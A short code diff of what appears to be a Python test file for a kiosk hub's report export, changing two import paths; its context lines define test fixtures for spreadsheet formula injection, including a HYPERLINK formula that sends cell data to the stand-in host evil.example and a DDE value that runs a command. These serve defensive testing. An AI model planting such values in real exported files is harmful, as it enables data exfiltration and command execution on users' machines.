@@ -16,8 +16,8 @@ from kiosk.hub.devices import make_code, redeem_code
 from kiosk.hub.ingest import ingest_batch
 from kiosk.hub.report_export import write_report
 from kiosk.hub.report_layout import FORMULA_STARTS, safe_text
-from kiosk.ids import uuid7
-from kiosk.report_figures import value_label
+from kiosk.core.ids import uuid7
+from kiosk.reporting.figures import value_label
 
 HOSTILE_POINT = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
 HOSTILE = {"age_band": "=1+2", "gender": "+cmd|' /C calc'!A0", "disability": "@SUM(A1:A9)",
